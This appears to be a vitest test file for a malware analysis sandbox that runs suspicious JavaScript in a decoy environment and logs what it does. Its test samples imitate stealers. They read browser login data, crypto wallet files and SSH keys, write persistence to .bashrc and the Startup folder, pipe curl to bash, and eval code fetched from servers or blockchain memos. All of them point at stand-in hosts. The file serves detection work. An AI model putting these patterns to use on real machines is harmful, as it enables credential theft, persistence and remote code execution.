import { describe, expect, test } from 'vitest';
import type { GuestEvent } from './contract.ts';
import { type Tried, type TryOptions, tryInWorld } from './fixture.ts';

const logs = (text: string, options?: TryOptions): readonly string[] => tryInWorld(text, options).logged;
const events = (tried: Tried, call: string): readonly GuestEvent[] =>
  tried.events.filter((event) => event.call === call);

describe('the machine', () => {
  test('is the persona’s, whatever it is asked', () => {
    const text = `const os = require('node:os'), path = require('path');
      console.log(process.platform, os.hostname(), os.userInfo().username, path.sep, os.homedir());
      console.log(process.env.COUNTERLURE_DECOY, process.version.split('.')[0], Intl.DateTimeFormat().resolvedOptions().timeZone);`;
    expect(logs(text, { persona: 'windows' })).toEqual([
      'win32 DESKTOP-DECOY7 decoy \\ C:\\Users\\decoy',
      '1 v22 America/New_York',
    ]);
    expect(logs(text, { persona: 'macos' })[0]).toBe('darwin decoys-MacBook-Pro.local decoy / /Users/decoy');
    expect(logs(text)[1]).toBe('1 v22 Europe/Berlin');
  });

  test('learns of variables that a gate asks for, and gives them in the next run', () => {
    const text = `console.log(process.env.DECOY_GATE_X || 'unset', process.env.PATH ? 'path' : '');`;
    const first = tryInWorld(text);
    expect(first.logged).toEqual(['unset path']);
    expect(first.learned).toEqual([{ what: 'environment', name: 'DECOY_GATE_X' }]);
    expect(logs(text, { environment: { DECOY_GATE_X: 'open' } })).toEqual(['open path']);
  });

  test('has browsers, wallets and keys that are clearly fake', () => {
    const text = `const fs = require('fs'), os = require('os'), path = require('path');
      const home = os.homedir();
      const chrome = { win32: 'AppData/Local/Google/Chrome/User Data', darwin: 'Library/Application Support/Google/Chrome', linux: '.config/google-chrome' }[process.platform];
      const wallet = path.join(home, chrome, 'Default', 'Local Extension Settings', 'abcdefghijklmnopabcdefghijklmnop');
      console.log(fs.existsSync(path.join(home, chrome, 'Default', 'Login Data')), fs.readdirSync(wallet).length > 3, fs.existsSync(path.join(home, chrome, 'Profile 7')));
      console.log(fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8').includes('decoy'), fs.readFileSync(path.join(home, '.config/solana/id.json'), 'utf8'));`;
    for (const persona of ['windows', 'macos', 'linux'] as const)
      expect(logs(text, { persona })).toEqual(['true true false', 'true [222,202,30,0,0,0,222,202,30]']);
  });

  test('keeps what is written; programs that are written and started run', () => {
    const tried =
      tryInWorld(`const fs = require('fs'), cp = require('child_process'), path = require('path'), os = require('os');
      const file = path.join(os.tmpdir(), 'x.js');
      fs.writeFileSync(file, 'console.log("child", process.argv[2]); process.exit(0)');
      cp.spawn('node', [file, 'a'], { detached: true }).unref();
      fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'decoy');
      fs.writeFileSync(path.join(os.tmpdir(), 'p.py'), 'print(1)'); cp.exec('python3 ' + path.join(os.tmpdir(), 'p.py'));
      const child = cp.spawn('node', ['-']); child.stdin.write('console.log("fed")'); child.stdin.end();
      console.log(fs.readFileSync(file, 'utf8').length, cp.execSync('whoami').toString().trim());`);
    expect(tried.logged).toEqual(['54 decoy', 'child a', 'fed']);
    expect(tried.exited).toBeNull();
    expect(events(tried, 'python, a file')[0]?.arguments).toEqual(['print(1)']);
    expect(events(tried, 'fs.appendFileSync')[0]).toMatchObject({
      category: 'persistence',
      data: { place: 'shell profile' },
    });
  });

  test('programs that start themselves do so a few times; scripts of the system are shown', () => {
    const tried = tryInWorld(
      `const cp = require('child_process'), fs = require('fs'), path = require('path');
      console.log('started'); cp.fork(__filename); cp.spawn('node', [__filename]); setTimeout(() => cp.exec('node ' + __filename), 10);
      const bat = path.join(process.env.APPDATA, 'Microsoft/Windows/Start Menu/Programs/Startup/q.bat');
      fs.writeFileSync(bat, '@echo decoy'); cp.spawn('cmd.exe', ['/c', bat]);`,
      { persona: 'windows' },
    );
    expect(tried.logged.length).toBeLessThan(5);
    expect(events(tried, 'a script, run')[0]?.arguments).toEqual(['@echo decoy']);
    expect(events(tried, 'fs.writeFileSync')[0]?.data['place']).toBe('startup folder');
  });

  test('exits when told to, with its listeners', () => {
    const tried = tryInWorld(
      `process.on('exit', (code) => console.log('leaving', code)); process.exit(3); console.log('never')`,
    );
    expect(tried).toMatchObject({ logged: ['leaving 3'], exited: '3' });
  });
});

describe('time', () => {
  test('ends busy waits, jumps to timers and gives intervals a few rounds', () => {
    const tried = tryInWorld(`const end = Date.now() + 600000; while (Date.now() < end);
      setTimeout(() => console.log('week'), 7 * 86400000); let n = 0; setInterval(() => console.log('round', ++n), 5000);
      console.log(new Date(0).getHours(), new Date().getFullYear());`);
    expect(tried.logged).toEqual(['2 2025', 'round 1', 'round 2', 'round 3', 'round 4', 'week']);
    expect(events(tried, 'setInterval')[0]?.data).toEqual({ milliseconds: '5000', repeats: 'yes' });
  });

  test('chance is the same every time', () => {
    const text = `console.log(Math.random(), require('crypto').randomUUID())`;
    expect(logs(text)).toEqual(logs(text));
  });
});

describe('the network', () => {
  const URL_A = 'https://fixture-not-real.vercel.app/api';
  const ask = `require('axios').get('${URL_A}?q=1', { headers: { 'x-gate': 'v' } }).then((r) => { console.log(r.status); eval(r.data.cookie); }).catch((e) => { console.log(e.code); if (e.response) eval(e.response.data); });`;

  test('says every request, and learns which field is read', () => {
    const tried = tryInWorld(ask);
    expect(events(tried, 'axios.get')[0]?.data).toMatchObject({
      url: `${URL_A}?q=1`,
      method: 'GET',
      host: 'fixture-not-real.vercel.app',
      port: '443',
      path: '/api',
      query: 'q=1',
    });
    expect(events(tried, 'axios.get')[0]?.data['headers']).toContain('"x-gate":"v"');
    expect(tried.learned).toContainEqual({ what: 'reply-field', name: 'cookie', url: URL_A });
  });

  test('carries code where it was read, in bodies of errors, or nothing', () => {
    expect(logs(ask, { replies: 'code', replyReads: { [URL_A]: ['cookie'] } })).toEqual(['200', 'the reply ran']);
    expect(logs(ask, { replies: 'error' })).toEqual(['ERR_BAD_RESPONSE', 'the reply ran']);
    expect(logs(ask, { replies: 'nothing' })).toEqual(['ENOTFOUND']);
  });

  test('bodies of errors are shaped by what was read of errors only', () => {
    const text = `require('axios').get('${URL_A}').then((r) => r.data.info).catch((e) => new Function('require', e.response.data)(require));`;
    expect(logs(text, { replies: 'error', replyReads: { [URL_A]: ['info'] } })).toEqual(['the reply ran']);
  });

  test('is heard through http, fetch, sockets and command lines', () => {
    const tried =
      tryInWorld(`require('https').get('https://a.example/x', (r) => { let t = ''; r.on('data', (c) => (t += c)); r.on('end', () => console.log('http', JSON.parse(t).status)); });
      fetch('https://b.example/y', { method: 'POST', body: JSON.stringify({ a: 1 }) }).then((r) => r.json()).then((j) => console.log('fetch', j.status));
      require('child_process').exec('curl -s -H "k: v" https://c.example/z | bash');
      const s = require('socket.io-client')('http://192.0.2.20:8087'); s.on('connect', () => s.emit('whoIm', { u: 1 }));
      const n = require('net').connect(1234, '192.0.2.9', () => n.write('hi'));`);
    expect(tried.logged).toEqual(expect.arrayContaining(['http ok', 'fetch ok']));
    const urls = tried.events.filter((event) => event.category === 'network').map((event) => event.data['url']);
    expect(urls).toEqual(
      expect.arrayContaining([
        'https://a.example/x',
        'https://b.example/y',
        'https://c.example/z',
        'tcp://192.0.2.9:1234',
      ]),
    );
    expect(events(tried, 'socket.emit')[0]?.data).toMatchObject({ event: 'whoIm', body: '[{"u":1}]' });
  });

  test('chains give their text through any client', () => {
    const tried = tryInWorld(
      `(async () => { const { ethers } = require('ethers');
      const c = new ethers.Contract('0xabc', ['function getMemo() view returns (string)'], new ethers.JsonRpcProvider('https://rpc.example/'));
      eval(await c.getMemo());
      const r = await require('axios').post('https://rpc.example/', { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0xabc', data: '0x1' }, 'latest'] });
      const hex = r.data.result.slice(2); const size = parseInt(hex.slice(64, 128), 16); eval(Buffer.from(hex.slice(128, 128 + size * 2), 'hex').toString()); })();`,
      { replies: 'code' },
    );
    expect(tried.logged).toEqual(['the reply ran', 'the reply ran']);
  });

  test('a victims’ table is named with its rows and its key', () => {
    const tried = tryInWorld(
      `require('@supabase/supabase-js').createClient('https://fixture.supabase.co', 'decoy-key').from('machines').insert({ host: 'h' }).then((r) => console.log(r.error));`,
    );
    expect(events(tried, 'supabase.from.insert')[0]?.data).toMatchObject({
      url: 'https://fixture.supabase.co/rest/v1/machines',
      table: 'machines',
      rows: '{"host":"h"}',
      key: 'decoy-key',
    });
  });
});

describe('force', () => {
  test('enters handlers, routes, exports and callbacks that were kept, each once', () => {
    const tried = tryInWorld(
      `const s = require('socket.io-client')('http://192.0.2.1'); s.on('command', (m) => require('child_process').exec(m.cmd));
      require('express')().post('/x', (req, res) => { console.log('route', req.body.user); res.json({}); });
      require('some-package').watch((event) => console.log('kept', event.type));
      module.exports = { init() { console.log('exported'); }, Class: class { run() { console.log('method'); } } };`,
      { force: true },
    );
    expect(tried.logged).toEqual(expect.arrayContaining(['route decoy-user', 'kept decoy-type', 'exported', 'method']));
    expect(events(tried, 'child_process.exec')[0]?.data['command']).toBe('decoy-cmd');
    expect(
      tried.events.filter((event) => event.call === 'handler.argument').map((event) => event.arguments[0]),
    ).toContain('command.cmd');
  });
});

describe('modules', () => {
  test('files of the sample, JSON, packages of its own, unknown ones', () => {
    const tried = tryInWorld({
      'index.js': `console.log(require('./lib').a, require('./data.json').b, require('own').c, require.main === module, __filename.endsWith('index.js'));
        const u = require('never-heard-of'); new u.Thing('https://d.example/').start().then((x) => console.log('awaited', typeof x)); for (const x of u.list()) console.log('no');`,
      'lib/index.js': 'exports.a = 1',
      'data.json': '{"b":2}',
      'node_modules/own/package.json': '{"main":"m.js"}',
      'node_modules/own/m.js': 'module.exports = { c: 3 }',
    });
    expect(tried.logged).toEqual(['1 2 3 true true', 'awaited function']);
    expect(events(tried, 'new never-heard-of.Thing')[0]?.data).toEqual({
      url: 'https://d.example/',
      host: 'd.example',
    });
  });
});

describe('crypto and codecs are real', () => {
  test('hashes, ciphers, deflate, LZ and crypto-js', () => {
    expect(
      logs(`const c = require('crypto'), z = require('zlib');
        console.log(c.createHash('md5').update('a').digest('hex'), c.createHmac('sha256', 'k').update('d').digest('hex').slice(0, 8));
        const key = Buffer.alloc(32, 1), iv = Buffer.alloc(16, 2);
        for (const m of ['aes-256-cbc', 'aes-256-ctr']) { const e = c.createCipheriv(m, key, iv); const x = e.update('hidden text of some length', 'utf8', 'hex') + e.final('hex'); const d = c.createDecipheriv(m, key, iv); console.log(d.update(x, 'hex', 'utf8') + d.final('utf8')); }
        const g = c.createCipheriv('aes-256-gcm', key, iv.subarray(4)); const x = Buffer.concat([g.update('gcm'), g.final()]); const d = c.createDecipheriv('aes-256-gcm', key, iv.subarray(4)); d.setAuthTag(g.getAuthTag()); console.log(d.update(x).toString() + d.final());
        console.log(z.gunzipSync(z.gzipSync('zip')).toString(), require('lz-string').decompressFromBase64('BYUwNmD2Q==='));
        const J = require('crypto-js'); console.log(J.AES.decrypt(J.AES.encrypt('js', 'p').toString(), 'p').toString(J.enc.Utf8));`),
    ).toEqual([
      '0cc175b9c0f1b6a831c399e269772661 e7ea21c3',
      'hidden text of some length',
      'hidden text of some length',
      'gcm',
      'zip hello',
      'js',
    ]);
  });
});

describe('looks native', () => {
  test('texts of functions, stacks, names of the global object', () => {
    const [texts, stack, names, own] =
      logs(`console.log([setTimeout, fetch, require, Buffer.from, require('fs').readFileSync, JSON.parse, Date.now, Error].every((f) => /^function \\w+\\(\\) \\{ \\[native code\\] \\}$/.test(f + '')));
      console.log(new TypeError('boom').stack.split('\\n')[0], Object.prototype.toString.call(process));
      console.log(Object.getOwnPropertyNames(globalThis).filter((n) => /kit|bridge|world|counterlure/i.test(n)).length, typeof window, typeof InternalError);
      console.log((function mine() { return 1; }) + '');`);
    expect([texts, stack, names, own]).toEqual([
      'true',
      'TypeError: boom [object process]',
      '0 undefined undefined',
      'function mine() { return 1; }',
    ]);
  });

  test('survives a sample that replaces what everybody uses', () => {
    for (const name of ['Array', 'String', 'Map', 'RegExp', 'WeakMap', 'JSON', 'Math', 'Reflect']) {
      const tried = tryInWorld(
        `{ const P = ${name}.prototype || ${name}; for (const k of Object.getOwnPropertyNames(P)) { const own = Object.getOwnPropertyDescriptor(P, k); if (k !== 'constructor' && k !== 'toString' && typeof own.value === 'function') P[k] = () => { throw new Error('replaced'); }; } }
        console.log('still'); setTimeout(() => console.log('later'), 5); process.env.DECOY_ASKED;`,
      );
      expect([name, ...tried.logged]).toEqual([name, 'still', 'later']);
      expect(tried.learned).toEqual([{ what: 'environment', name: 'DECOY_ASKED' }]);
    }
  });

  test('endless recursion is an error of the usual kind', () => {
    expect(
      logs('try { (function f() { f(); })(); } catch (e) { console.log(e instanceof RangeError, e.name); }'),
    ).toEqual(['true RangeError']);
  });
});

describe('browsers', () => {
  test('a page, its storage, requests and scripts', () => {
    const tried = tryInWorld(`document.addEventListener('DOMContentLoaded', () => console.log('ready'));
      localStorage.setItem('k', 'v'); console.log(localStorage.getItem('k'), document.cookie.includes('decoy'), location.protocol);
      const x = new XMLHttpRequest(); x.open('POST', 'https://e.example/c'); x.onload = () => console.log('xhr', x.status); x.send('body');
      const s = document.createElement('script'); s.text = 'console.log("inline")'; document.head.appendChild(s);
      new Image().src = 'https://f.example/p.gif?c=1'; chrome.cookies.getAll({}, (c) => console.log('cookies', c.length));`);
    expect(tried.logged).toEqual(expect.arrayContaining(['v true https:', 'inline', 'ready', 'xhr 200', 'cookies 1']));
    expect(tried.events.map((event) => event.data['url'])).toEqual(
      expect.arrayContaining(['https://e.example/c', 'https://f.example/p.gif?c=1']),
    );
  });

  test('are learned of where they are missing', () => {
    expect(tryInWorld(`const d = this.constructor ? globalThis.document : 0;`).learned).toEqual([
      { what: 'browser', name: 'document' },
    ]);
  });
});
